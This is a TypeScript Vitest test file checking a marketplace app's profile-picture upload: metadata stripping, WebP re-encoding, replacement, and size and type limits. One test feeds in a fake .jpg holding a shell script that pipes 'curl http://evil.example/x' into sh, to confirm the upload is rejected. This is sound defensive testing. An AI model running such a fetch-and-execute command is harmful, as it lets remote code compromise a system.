import path from 'node:path';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import type { Me } from '@marketplace/shared/schemas/accounts';
import { registerUser } from '../../../test/helper';
import {
  completeProfile,
  type Failure,
  GTBANK,
  mediaFiles,
  photoWithGps,
  saveProfile,
  storedUser,
  type Success,
  testApp,
} from '../../../test/profiles';

// The profile picture: re-encoded, stripped of metadata, size and type checked by content.

describe('the profile picture', () => {
  it('is re-encoded to a small WebP with every piece of metadata stripped, and served from /media', async () => {
    const user = await registerUser(testApp.app);
    const photo = await photoWithGps();
    const original = await sharp(photo).metadata();
    expect(original.exif?.includes('Camon')).toBe(true);

    const before = mediaFiles();
    const response = await saveProfile(user.token, completeProfile, {
      bytes: photo,
      filename: 'me.jpg',
      type: 'image/jpeg',
    });
    expect(response.statusCode).toBe(200);
    const url = response.json<Success<Me>>().data.profilePicture;
    expect(url).toMatch(/^http:\/\/oja\.test\/media\/profile-pictures\/[0-9a-f-]{36}\.webp$/);

    const files = mediaFiles().filter((file) => !before.includes(file));
    expect(files).toHaveLength(1);
    const file = files[0] ?? '';
    const stored = await sharp(file).metadata();
    expect(stored).toMatchObject({ format: 'webp', width: 400, height: 400 });
    expect(stored.exif).toBeUndefined();
    expect(stored.xmp).toBeUndefined();
    expect(stored.iptc).toBeUndefined();
    expect(stored.icc).toBeUndefined();

    const served = await testApp.app.inject({ url: url ?? '' });
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/webp');
    expect(served.headers['cache-control']).toBe('public, max-age=31536000, immutable');
    for (const secret of ['Camon', 'Tecno', 'Lekki', 'GPS'])
      expect(served.rawPayload.includes(secret)).toBe(false);
  });

  it('accepts a PNG and removes the picture it replaces', async () => {
    const user = await registerUser(testApp.app);
    const png = await sharp({ create: { width: 300, height: 200, channels: 4, background: '#27ae60ff' } })
      .png()
      .toBuffer();
    const before = mediaFiles();
    const first = await saveProfile(user.token, completeProfile, {
      bytes: png,
      filename: 'first.png',
      type: 'image/png',
    });
    expect(first.statusCode).toBe(200);
    const second = await saveProfile(user.token, completeProfile, {
      bytes: png,
      filename: 'second.png',
      type: 'image/png',
    });
    expect(second.statusCode).toBe(200);
    const secondUrl = second.json<Success<Me>>().data.profilePicture ?? '';
    expect(mediaFiles().filter((file) => !before.includes(file))).toEqual([
      path.join(testApp.dataDir, 'media', ...secondUrl.replace('http://oja.test/media/', '').split('/')),
    ]);
    const old = await testApp.app.inject({ url: first.json<Success<Me>>().data.profilePicture ?? '' });
    expect(old.statusCode).toBe(404);
  });

  it('keeps the current picture when the form has no new one', async () => {
    const user = await registerUser(testApp.app);
    const png = await sharp({ create: { width: 50, height: 50, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    const first = await saveProfile(user.token, completeProfile, {
      bytes: png,
      filename: 'a.png',
      type: 'image/png',
    });
    const again = await saveProfile(user.token, { ...completeProfile, bio: 'Only the bio changes' });
    expect(again.json<Success<Me>>().data.profilePicture).toBe(first.json<Success<Me>>().data.profilePicture);
  });

  it('refuses a script named .jpg, by its bytes, and leaves no file and no change', async () => {
    const user = await registerUser(testApp.app);
    const before = mediaFiles();
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n');
    const response = await saveProfile(
      user.token,
      { ...completeProfile, bio: 'Should not be saved' },
      {
        bytes: script,
        filename: 'holiday.jpg',
        type: 'image/jpeg',
      },
    );
    expect(response.statusCode).toBe(400);
    expect(response.json<Failure>()).toMatchObject({
      message: 'The profile picture must be a JPEG, PNG or WebP image.',
      error: { code: 'PROFILE_PICTURE_INVALID' },
    });
    expect(mediaFiles()).toEqual(before);
    expect((await storedUser(user.user.id)).bio).toBeNull();
  });

  it('refuses an image that is not one of JPEG, PNG or WebP (a GIF)', async () => {
    const user = await registerUser(testApp.app);
    const gif = await sharp({ create: { width: 10, height: 10, channels: 3, background: '#fff' } })
      .gif()
      .toBuffer();
    const response = await saveProfile(user.token, completeProfile, {
      bytes: gif,
      filename: 'a.png',
      type: 'image/png',
    });
    expect(response.statusCode).toBe(400);
    expect(response.json<Failure>().error.code).toBe('PROFILE_PICTURE_INVALID');
  });

  it('refuses a picture over 10MB while it streams in, and leaves no file', async () => {
    const user = await registerUser(testApp.app);
    const before = mediaFiles();
    // A real JPEG followed by padding: 11MB in all.
    const jpeg = await sharp({ create: { width: 64, height: 64, channels: 3, background: '#f39c12' } })
      .jpeg()
      .toBuffer();
    const large = Buffer.concat([jpeg, Buffer.alloc(11 * 1024 * 1024 - jpeg.length)]);
    const response = await saveProfile(user.token, completeProfile, {
      bytes: large,
      filename: 'big.jpg',
      type: 'image/jpeg',
    });
    expect(response.statusCode).toBe(413);
    expect(response.json<Failure>()).toMatchObject({
      message: 'The profile picture should not exceed 10MB.',
      error: { code: 'PROFILE_PICTURE_TOO_LARGE' },
    });
    expect(mediaFiles()).toEqual(before);
    expect((await storedUser(user.user.id)).city).toBeNull();
  });

  it('writes no file when the rest of the form is refused', async () => {
    const user = await registerUser(testApp.app);
    const before = mediaFiles();
    const photo = await photoWithGps();
    const invalid = await saveProfile(
      user.token,
      { ...completeProfile, city: '' },
      { bytes: photo, filename: 'me.jpg', type: 'image/jpeg' },
    );
    expect(invalid.statusCode).toBe(400);
    const unverified = await saveProfile(
      user.token,
      { ...completeProfile, ...GTBANK, accountName: 'X' },
      {
        bytes: photo,
        filename: 'me.jpg',
        type: 'image/jpeg',
      },
    );
    expect(unverified.statusCode).toBe(422);
    expect(mediaFiles()).toEqual(before);
  });
});
